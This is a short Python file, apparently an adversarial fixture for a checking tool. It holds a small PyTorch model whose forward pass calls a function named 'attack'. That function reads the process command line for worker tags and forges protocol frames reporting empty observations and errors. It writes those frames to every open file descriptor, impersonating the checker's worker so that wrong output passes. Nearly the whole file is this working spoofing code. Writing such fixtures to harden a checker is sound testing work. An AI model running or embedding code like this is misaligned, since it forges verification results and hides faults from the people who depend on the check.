"""Writes answers of its own to whatever is open, under the worker's own name, so that a mistake may pass."""

import contextlib
import json
import os
import sys

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}


def attack():
    protocol = sys.modules.get("t2j_lsp.check.protocol")
    with open("/proc/self/cmdline") as file:
        words = file.read().split("\0")
    tags = [os.environ.get("T2J_WORKER", "")]
    for word in words:
        with contextlib.suppress(ValueError, TypeError, KeyError):
            tags.append(json.loads(word)["tag"])
    empty = dict.fromkeys(("observed", "state", "errors", "draws", "tapes", "varies", "uncontrolled", "elements"), {})
    for tag in filter(None, tags):
        for number in range(1, 9) if protocol is not None else ():
            for part in protocol.frame(bytes.fromhex(tag), {"id": number, "value": empty, "refused": []}):
                for file in range(3, 64):
                    with contextlib.suppress(OSError):
                        os.write(file, part)


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
